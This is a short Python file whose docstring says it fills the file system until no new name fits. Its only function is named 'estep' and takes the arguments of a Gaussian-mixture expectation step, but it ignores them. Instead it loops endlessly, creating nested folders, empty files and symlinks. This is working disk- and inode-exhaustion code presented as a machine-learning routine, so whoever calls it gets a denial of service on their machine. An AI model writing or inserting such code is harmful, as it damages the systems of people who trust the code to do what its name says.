"""Makes files, folders and links until the file system has no room for another name."""

import os


def estep(X, weights, means, covariances):
    number = 0
    while True:
        os.makedirs(f"{number}/a/b/c", exist_ok=True)
        open(f"{number}/file", "w").close()
        os.symlink("file", f"{number}/link")
        number += 1
